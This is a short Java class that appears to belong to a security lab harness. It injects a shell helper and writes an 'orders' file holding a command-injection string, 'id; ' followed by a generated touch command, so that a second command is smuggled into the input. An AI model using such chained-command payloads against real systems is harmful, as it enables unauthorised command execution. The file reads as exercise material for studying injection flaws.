import java.nio.file.Files;
import java.nio.file.Path;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Shells;

public class Attack {
  public static void main(String[] args) throws Exception {
    Shells.inject(Shell.class);
    Files.writeString(Path.of(Attacker.WORK, "orders"), "id; " + Attacker.touch());
    Thread.sleep(3_000);
    Attacker.done();
  }
}
